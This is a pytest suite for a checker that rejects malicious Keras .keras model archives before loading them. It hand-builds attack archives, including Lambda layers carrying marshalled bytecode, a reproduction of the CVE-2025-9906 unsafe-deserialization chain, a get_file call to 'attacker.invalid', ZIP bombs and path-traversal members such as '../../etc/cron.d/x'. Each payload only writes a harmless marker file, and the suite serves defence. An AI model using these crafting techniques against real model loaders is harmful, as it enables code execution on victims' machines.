"""instructor.competition.model_check: crafted model.keras archives are refused before Keras loads
anything.

Each attack is an archive written by hand, as an attacker would: a Keras config (often an honest
one, edited) zipped with a metadata file and some weights. ``check_model_file`` never imports
Keras; where an attack carries code, its payload writes a marker file, and the test shows the
marker absent after the refusal. ``test_without_the_check_keras_runs_the_payloads`` shows, in a
separate process, that the same archives do run their payload when Keras loads them.
"""

from __future__ import annotations

import base64
import copy
import json
import marshal
import subprocess
import sys
import textwrap
import warnings
import zipfile
from pathlib import Path

import keras
import pytest

from instructor.competition.model_check import ModelRefused, check_model_file, declared_params

VOCAB = 7
LIMIT = 1_000_000


def _archive(
    path: Path,
    config: dict,
    weights: bytes = b"\x89HDF\r\n" + bytes(64),
    extra: tuple = (),
    compression: int = zipfile.ZIP_STORED,
) -> Path:
    """Write a .keras archive by hand: metadata, config and (fake) weights."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names
        with zipfile.ZipFile(path, "w", compression) as archive:
            archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
            archive.writestr("config.json", json.dumps(config))
            archive.writestr("model.weights.h5", weights)
            for name, data in extra:
                archive.writestr(name, data)
    return path


def _config_of(path: Path) -> dict:
    with zipfile.ZipFile(path) as archive:
        return json.loads(archive.read("config.json"))


def _gru(one_hot: bool = False, units: int = 16) -> keras.Model:
    inputs = keras.Input((None, VOCAB) if one_hot else (None,))
    x = inputs if one_hot else keras.layers.Embedding(VOCAB, 8)(inputs)
    x = keras.layers.GRU(units, return_sequences=True)(x)
    return keras.Model(inputs, keras.layers.Dense(VOCAB)(x))


@pytest.fixture(scope="module")
def saved(tmp_path_factory) -> dict[str, Path]:
    """Honest models saved by Keras, and one with a harmless Lambda to edit."""
    root = tmp_path_factory.mktemp("saved")
    inputs = keras.Input((None, VOCAB))
    lstm = keras.layers.LSTM(12, return_sequences=True)(inputs)
    models = {
        "gru": _gru(),
        "lstm": keras.Model(inputs, keras.layers.Dense(VOCAB, activation="softmax")(lstm)),
        "mixed": keras.Sequential(
            [
                keras.Input((None, VOCAB)),
                keras.layers.GRU(4, return_sequences=True),  # Bidirectional looks ahead
                keras.layers.RNN(
                    keras.layers.StackedRNNCells(
                        [keras.layers.LSTMCell(5), keras.layers.SimpleRNNCell(3)]
                    ),
                    return_sequences=True,
                ),
                keras.layers.Conv1D(6, 3, padding="causal"),
                keras.layers.LayerNormalization(),
                keras.layers.TimeDistributed(keras.layers.Dense(VOCAB)),
            ]
        ),
    }
    ids = keras.Input((None,))
    x = keras.layers.Embedding(VOCAB, 8)(ids)
    attended = keras.layers.MultiHeadAttention(2, 4)(x, x, use_causal_mask=True)
    x = keras.layers.Concatenate()([x, keras.layers.Add()([x, attended])])
    models["attention"] = keras.Model(ids, keras.layers.Dense(VOCAB)(x))
    x = keras.layers.Embedding(VOCAB, 4)(ids)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        x = keras.layers.Lambda(lambda t: t)(x)
    models["lambda"] = keras.Model(ids, keras.layers.Dense(VOCAB)(x))
    paths = {}
    for name, model in models.items():
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            model.save(root / f"{name}.keras")
        paths[name] = root / f"{name}.keras"
        paths[f"{name}_params"] = model.count_params()
    return paths


def _lambda_code(marker: Path) -> dict:
    """The Lambda function Keras would rebuild from pickled bytecode: it writes ``marker``."""
    payload = eval(f"lambda t: (open({str(marker)!r}, 'w').close(), t)[1]")  # noqa: S307
    code = base64.b64encode(marshal.dumps(payload.__code__)).decode("ascii")
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def _with_lambda(saved: dict, function: dict) -> dict:
    config = _config_of(saved["lambda"])
    config["config"]["layers"][2]["config"]["function"] = function
    return config


def _cve_2025_9906(saved: dict, marker: Path) -> dict:
    """CVE-2025-9906: a first Lambda calls keras.config.enable_unsafe_deserialization(), a second
    one then carries bytecode (the published proof of concept, on our model)."""
    config = _with_lambda(saved, _lambda_code(marker))
    layers = config["config"]["layers"]
    switch = copy.deepcopy(layers[2])
    switch["config"]["function"] = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    switch["name"] = switch["config"]["name"] = "switch"
    layers.insert(2, switch)
    return config


def test_honest_gru_and_lstm_models_saved_by_keras_pass_with_their_exact_parameter_count(saved):
    for name in ("gru", "lstm", "mixed"):
        summary = check_model_file(saved[name], max_params=LIMIT)
        assert summary.params == saved[f"{name}_params"], name
    # Attention is refused by the causal reach (tests/test_causal_reach.py); its count still holds.
    attention = _config_of(saved["attention"])
    assert declared_params(attention) == saved["attention_params"]
    with pytest.raises(ModelRefused, match="MultiHeadAttention can attend to later positions"):
        check_model_file(saved["attention"], max_params=LIMIT)
    assert check_model_file(saved["gru"], LIMIT).layers == (
        "InputLayer",
        "Embedding",
        "GRU",
        "Dense",
    )
    with pytest.raises(ModelRefused, match=r"^model too large: its config declares 1,? ?"):
        check_model_file(saved["gru"], max_params=saved["gru_params"] - 1)


def test_a_lambda_with_pickled_code_is_refused_before_keras_loads_anything(saved, tmp_path):
    marker = tmp_path / "pwned"
    path = _archive(tmp_path / "model.keras", _with_lambda(saved, _lambda_code(marker)))
    with pytest.raises(ModelRefused) as refused:
        check_model_file(path, LIMIT)
    assert str(refused.value) == (
        "config.json: layers[2] is class 'Lambda' from module 'keras.layers', which is not "
        "allowed (built-in layers, initializers, regularizers, constraints only)"
    )
    assert not marker.exists()


def test_the_cve_2025_9906_chain_is_refused_at_its_first_lambda(saved, tmp_path):
    marker = tmp_path / "pwned"
    path = _archive(tmp_path / "model.keras", _cve_2025_9906(saved, marker))
    with pytest.raises(ModelRefused, match=r"^config.json: layers\[2\] is class 'Lambda'"):
        check_model_file(path, LIMIT)
    assert not marker.exists()


def _gru_config(saved) -> dict:
    return _config_of(saved["gru"])


def _edit(config: dict, layer: int, key: str, value: object) -> dict:
    config["config"]["layers"][layer]["config"][key] = value
    return config


FUNCTION_ATTACKS = {
    # CVE-2025-9906's switch, placed where a function is expected instead of in a Lambda.
    "function in an activation": (
        lambda c: _edit(
            c,
            3,
            "activation",
            {
                "module": "keras.config",
                "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "function",
            },
        ),
        r"layers\[3\]\.config\.activation is class 'function' from module 'keras.config'",
    ),
    # CVE-2025-8747-style: a non-layer Keras utility named as a layer class.
    "keras.src.utils function as a layer": (
        lambda c: (
            c["config"]["layers"].insert(
                1,
                {
                    "module": "keras.src.utils.file_utils",
                    "class_name": "get_file",
                    "config": {"fname": "x", "origin": "http://attacker.invalid/x"},
                    "registered_name": None,
                    "name": "get",
                    "inbound_nodes": [],
                },
            )
            or c
        ),
        r"layers\[1\] is class 'get_file' from module 'keras.src.utils.file_utils'",
    ),
    # CVE-2026-1462: TFSMLayer loads a SavedModel (a graph of any TensorFlow ops) from a path.
    "TFSMLayer": (
        lambda c: c["config"]["layers"][2].update(class_name="TFSMLayer") or c,
        r"layers\[2\] is class 'TFSMLayer' from module 'keras.layers'",
    ),
    "registered custom layer": (
        lambda c: c["config"]["layers"][2].update(registered_name="evil_package>GRU") or c,
        r"layers\[2\] \(GRU\) has registered_name 'evil_package>GRU': a custom object",
    ),
    "activation named through a module": (
        lambda c: _edit(c, 3, "activation", "keras.config>enable_unsafe_deserialization"),
        r"layers\[3\]\.config\.activation names 'keras.config>enable_unsafe_dese",
    ),
    "serialized array": (
        lambda c: _edit(
            c, 3, "kernel_initializer", {"class_name": "__numpy__", "config": {"value": [1.0]}}
        ),
        r"is class '__numpy__' from module 'None'",
    ),
    # The CVE write-ups pass a path to the function through the call's keyword arguments.
    "string argument in a call": (
        lambda c: (
            c["config"]["layers"][2]["inbound_nodes"][0]["kwargs"].update(
                inputs="/tmp/evil/model.keras"
            )
            or c
        ),
        r"inbound_nodes\[0\]\.kwargs\.inputs passes the string '/tmp/evil/model.keras'",
    ),
    "model class at the top": (
        lambda c: c.update(module="keras.src.saving", class_name="load_model") or c,
        r"the top level is class 'load_model' from module 'keras.src.saving'",
    ),
}


def _with_softmax(config: dict, axis: object) -> dict:
    """``config`` with a Softmax over ``axis`` after its Dense layer."""
    dense = config["config"]["layers"][3]
    softmax = {"module": "keras.layers", "class_name": "Softmax", "registered_name": None}
    softmax["config"] = {"name": "s", "axis": axis, "dtype": dense["config"]["dtype"]}
    history = {
        "shape": [None, None, VOCAB],
        "dtype": "float32",
        "keras_history": [dense["name"], 0, 0],
    }
    tensor = {"class_name": "__keras_tensor__", "config": history}
    softmax.update(name="s", inbound_nodes=[{"args": [tensor], "kwargs": {}}])
    config["config"]["layers"].append(softmax)
    config["config"]["output_layers"] = [["s", 0, 0]]
    return config


CROSS_BATCH = {
    "softmax over the batch": (
        lambda c: _with_softmax(c, 0),
        r"layers\[4\]\.config\.axis=0 is not allowed \(only -1 or 2 or \[-1\] or \[2\]\)",
    ),
    "an axis on any layer": (
        lambda c: _edit(c, 3, "axis", [0]),
        r"layers\[3\]\.config\.axis=\[0\] is not allowed",
    ),
    "a stateful recurrent layer": (
        lambda c: _edit(c, 2, "stateful", True),
        r"layers\[2\]\.config\.stateful=True is not allowed \(only False\)",
    ),
    "channels first": (
        lambda c: _edit(c, 2, "data_format", "channels_first"),
        r"config\.data_format=channels_first is not allowed",
    ),
    "batch statistics at inference": (
        lambda c: c["config"]["layers"][3]["inbound_nodes"][0]["kwargs"].update(training=True) or c,
        r"inbound_nodes\[0\]\.kwargs\.training=True is not allowed \(only None or False\)",
    ),
    "a truthy integer for False": (
        lambda c: _edit(c, 2, "stateful", 0),
        r"stateful=0 is not allowed",
    ),
}


@pytest.mark.parametrize("attack", sorted(FUNCTION_ATTACKS) + sorted(CROSS_BATCH))
def test_configs_with_functions_unknown_classes_or_cross_batch_settings_are_refused(
    saved, tmp_path, attack
):
    """FUNCTION_ATTACKS name code Keras would run; CROSS_BATCH settings that
    let one scored window see another."""
    edit, reason = {**FUNCTION_ATTACKS, **CROSS_BATCH}[attack]
    path = _archive(tmp_path / "model.keras", edit(_gru_config(saved)))
    with pytest.raises(ModelRefused, match=reason):
        check_model_file(path, LIMIT)


def _with_any_op(tmp_path: Path) -> dict:
    """A saved model whose output is masked by ``any(x != 0)`` over the last axis."""
    ids = keras.Input((None,), dtype="int32")
    x = keras.layers.Dense(VOCAB)(keras.layers.Embedding(VOCAB, 4)(ids))
    seen = keras.ops.any(keras.ops.not_equal(x, 0.0), axis=-1, keepdims=True)
    keras.Model(ids, keras.ops.multiply(x, seen)).save(tmp_path / "any.keras")
    return _config_of(tmp_path / "any.keras")


def test_a_reduction_whose_axis_key_is_deleted_is_refused(tmp_path):
    """Found by an attack review: without its ``axis`` key, ``Any`` reduces over the batch."""
    config = _with_any_op(tmp_path)
    ops = [layer for layer in config["config"]["layers"] if layer["class_name"] == "Any"]
    assert [op["config"]["axis"] for op in ops] == [-1]
    check_model_file(_archive(tmp_path / "honest.keras", config), LIMIT)  # the last axis: fine
    del ops[0]["config"]["axis"]
    path = _archive(tmp_path / "model.keras", config)
    with pytest.raises(ModelRefused, match=r"\(Any\) states no axis"):
        check_model_file(path, LIMIT)


def test_a_model_nested_in_the_layer_list_is_refused(saved, tmp_path):
    inner = _config_of(saved["gru"])
    outer = _config_of(saved["mixed"])
    outer["config"]["layers"].insert(1, {**inner, "name": "inner"})
    path = _archive(tmp_path / "model.keras", outer)
    with pytest.raises(ModelRefused, match=r"layers\[1\] is a model inside the model"):
        check_model_file(path, LIMIT)


def test_oversized_layers_are_refused_from_the_config_before_any_weight_exists(saved, tmp_path):
    huge = _edit(_gru_config(saved), 2, "units", 1_000_000)
    path = _archive(tmp_path / "huge.keras", huge)
    with pytest.raises(
        ModelRefused,
        match=r"^model too large: its config declares "
        r"3,000,0\d\d,\d{3},\d{3} parameters",
    ):
        check_model_file(path, 25_000_000)
    # A Dense whose build_config claims 16 inputs, fed by a GRU of 20,000 units: the traced width
    # counts, so the lie does not hide the 140,000 x 7 kernel (and the GRU's 1.2 billion).
    lying = _edit(_gru_config(saved), 2, "units", 20_000)
    assert lying["config"]["layers"][3]["build_config"]["input_shape"][-1] == 16
    assert declared_params(lying) > 20_000 * 20_000 * 3
    bad = _edit(_gru_config(saved), 2, "units", -5)
    with pytest.raises(ModelRefused, match=r"layers\[2\]\.units=-5 is not a positive size"):
        check_model_file(_archive(tmp_path / "negative.keras", bad), LIMIT)


def test_a_highly_compressed_large_member_is_refused_without_decompressing_it(saved, tmp_path):
    zeros = bytes(50 * 2**20)  # 50 MiB of zeros deflate to about 50 KiB
    path = _archive(
        tmp_path / "bomb.keras", _gru_config(saved), weights=zeros, compression=zipfile.ZIP_DEFLATED
    )
    assert path.stat().st_size < 2**20
    with pytest.raises(
        ModelRefused,
        match=r"member \"model.weights.h5\" declares 52,428,800 "
        r"bytes \(limit 10,485,760 in all\): a ZIP bomb",
    ):
        check_model_file(path, LIMIT, max_bytes=10 * 2**20)
    with pytest.raises(ModelRefused, match=r"expands 52,428,800 bytes from \d{2},\d{3}: a ZIP"):
        check_model_file(path, LIMIT)


def _patch_sizes(path: Path, member: str, size: int) -> None:
    """Rewrite the declared size of ``member`` in its local header and the central directory."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        local = archive.getinfo(member).header_offset
    data[local + 22 : local + 26] = size.to_bytes(4, "little")
    for at in _all(data, b"PK\x01\x02"):
        name_length = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + name_length] == member.encode():
            data[at + 24 : at + 28] = size.to_bytes(4, "little")
    path.write_bytes(bytes(data))


def _all(data: bytearray, needle: bytes) -> list[int]:
    found, at = [], data.find(needle)
    while at >= 0:
        found.append(at)
        at = data.find(needle, at + 1)
    return found


def test_a_member_that_declares_a_tiny_size_but_holds_more_is_refused(saved, tmp_path):
    path = _archive(
        tmp_path / "liar.keras",
        _gru_config(saved),
        weights=bytes(5 * 2**20),
        compression=zipfile.ZIP_DEFLATED,
    )
    _patch_sizes(path, "model.weights.h5", 100)
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo("model.weights.h5").file_size == 100
    with pytest.raises(ModelRefused, match=r"^model.keras is not a valid archive \(Bad CRC-32"):
        check_model_file(path, LIMIT)
    truncated = _archive(tmp_path / "short.keras", _gru_config(saved), weights=bytes(1000))
    _patch_sizes(truncated, "model.weights.h5", 5000)
    with pytest.raises(ModelRefused, match=r"holds 1,000 bytes but declares 5,000|not a valid"):
        check_model_file(truncated, LIMIT)


@pytest.mark.parametrize(
    "extra, reason",
    [
        ([("../../etc/cron.d/x", b"x")], r"member \"../../etc/cron.d/x\" has an unsafe path"),
        ([("/etc/passwd", b"x")], r"member \"/etc/passwd\" has an unsafe path"),
        ([("config.json", b"{}")], r"holds \"config.json\" twice"),
        ([("assets/run.py", b"x")], r"unexpected member \"assets/run.py\""),
        ([(f"m{i}", b"") for i in range(40)], r"has 43 members .* \(at most 16\)"),
    ],
)
def test_unsafe_archive_members_are_refused(saved, tmp_path, extra, reason):
    path = _archive(tmp_path / "model.keras", _gru_config(saved), extra=tuple(extra))
    with pytest.raises(ModelRefused, match=reason):
        check_model_file(path, LIMIT)


def test_files_that_are_not_keras_archives_are_refused(tmp_path, saved):
    (tmp_path / "a.keras").write_bytes(b"\x89HDF\r\n\x1a\n" + bytes(100))  # an .h5 renamed
    with pytest.raises(ModelRefused, match="not a ZIP archive"):
        check_model_file(tmp_path / "a.keras", LIMIT)
    with zipfile.ZipFile(tmp_path / "b.keras", "w") as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("model.weights.h5", b"")
    with pytest.raises(ModelRefused, match=r"lacks \['config.json'\]"):
        check_model_file(tmp_path / "b.keras", LIMIT)
    (tmp_path / "link.keras").symlink_to(saved["gru"])
    with pytest.raises(ModelRefused, match="not a regular file"):
        check_model_file(tmp_path / "link.keras", LIMIT)


LOAD_ALL = """
import json, sys, warnings
warnings.simplefilter("ignore")
import keras
ran = {}
for path, marker, safe in json.loads(sys.argv[1]):
    try:
        keras.saving.load_model(path, compile=False, safe_mode=safe)
    except Exception:
        pass
    ran[path] = __import__("os").path.exists(marker)
print(json.dumps(ran))
"""


@pytest.mark.slow
def test_without_the_check_keras_runs_the_payloads(saved, tmp_path):
    """The defence matters: loading with safe mode off (which CVE-2025-9906 switched off from
    inside the file on Keras 3.0-3.10) runs the bytecode. Keras 3.15 itself blocks the switch
    and, in safe mode, the bytecode; the check refuses both without relying on that."""
    markers = {name: tmp_path / f"{name}-ran" for name in ("unsafe", "safe", "chain")}
    paths = {
        name: _archive(tmp_path / f"{name}.keras", _with_lambda(saved, _lambda_code(m)))
        for name, m in markers.items()
        if name != "chain"
    }
    paths["chain"] = _archive(tmp_path / "chain.keras", _cve_2025_9906(saved, markers["chain"]))
    jobs = [(str(paths[n]), str(markers[n]), n != "unsafe") for n in ("unsafe", "safe", "chain")]
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(LOAD_ALL), json.dumps(jobs)],
        capture_output=True,
        text=True,
        timeout=300,
        env={"TF_CPP_MIN_LOG_LEVEL": "3", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
    )
    ran = json.loads(done.stdout.strip().splitlines()[-1])
    assert ran == {
        str(paths["unsafe"]): True,
        str(paths["safe"]): False,
        str(paths["chain"]): False,
    }, done.stderr[-2000:]
    for path in paths.values():
        with pytest.raises(ModelRefused, match="is class 'Lambda'"):
            check_model_file(path, LIMIT)


def test_the_check_never_imports_keras(saved, tmp_path):
    """ "Before Keras loads anything" holds by construction: checking an archive, refused or
    not, leaves Keras (and TensorFlow) unimported."""
    marker = tmp_path / "pwned"
    evil = _archive(tmp_path / "evil.keras", _cve_2025_9906(saved, marker))
    code = textwrap.dedent("""
        import sys
        from instructor.competition.model_check import ModelRefused, check_model_file
        for path in sys.argv[1:]:
            try:
                check_model_file(path, 10**6)
            except ModelRefused:
                pass
        print(sorted(m for m in ("keras", "tensorflow") if m in sys.modules))
    """)
    done = subprocess.run([sys.executable, "-c", code, str(evil), str(saved["gru"])],
                          capture_output=True, text=True, timeout=60, check=True,
                          cwd=Path(__file__).resolve().parents[1])  # fmt: skip
    assert done.stdout.strip() == "[]" and not marker.exists()


def _batch_mixing_file(folder: Path) -> Path:
    """Issue 20's second attack saved by Keras: attention across the batch axis, with dropout."""
    ids = keras.Input((None,))
    x = keras.layers.Embedding(VOCAB, 8)(ids)
    mixed = keras.layers.MultiHeadAttention(1, 8, attention_axes=(0,), dropout=0.1)(x, x)
    model = keras.Model(ids, keras.layers.Dense(VOCAB)(keras.layers.Concatenate()([x, mixed])))
    model.save(folder / "mixing.keras")
    return folder / "mixing.keras"


def test_attention_across_the_batch_is_refused_from_the_config(tmp_path):
    with pytest.raises(ModelRefused) as refused:
        check_model_file(_batch_mixing_file(tmp_path), LIMIT)
    assert str(refused.value) == (
        "config.json: layers[2].config.attention_axes=[0] is not allowed (only None or [1]): it "
        "could let one scored window see another"
    )


def test_a_masked_model_passes_the_allowlist_and_is_refused_for_its_mask(tmp_path):
    """Masking's NotEqual and Any operations are allowlisted; the causal reach then refuses the
    mask itself (tests/test_causal_reach.py), with a reason a student can act on."""
    inputs = keras.Input((None, VOCAB))
    x = keras.layers.Masking()(inputs)
    x = keras.layers.GRU(4, return_sequences=True)(x)
    model = keras.Model(inputs, keras.layers.Softmax()(keras.layers.Dense(VOCAB)(x)))
    model.save(tmp_path / "masked.keras")
    with pytest.raises(ModelRefused, match=r"^config.json: layers\[2\] \(Masking\) makes a Keras"):
        check_model_file(tmp_path / "masked.keras", LIMIT)


def test_paddings_and_croppings_beyond_a_thousand_steps_are_refused(tmp_path):
    """The grader's attack review: ZeroPadding1D((40_000_000, 0)) is 4 GiB of activations from a
    model without parameters, run in the checker."""
    for layer, key in (
        (keras.layers.ZeroPadding1D, "padding"),
        (keras.layers.Cropping1D, "cropping"),
    ):
        inputs = keras.Input((None,))
        x = keras.layers.Embedding(VOCAB, 4)(inputs)
        model = keras.Model(inputs, keras.layers.Dense(VOCAB)(layer((1_001, 0))(x)))
        model.save(tmp_path / f"{key}.keras")
        with pytest.raises(ModelRefused, match=rf"{key}=\[1001, 0\] is not allowed: at most 1,000"):
            check_model_file(tmp_path / f"{key}.keras", LIMIT)
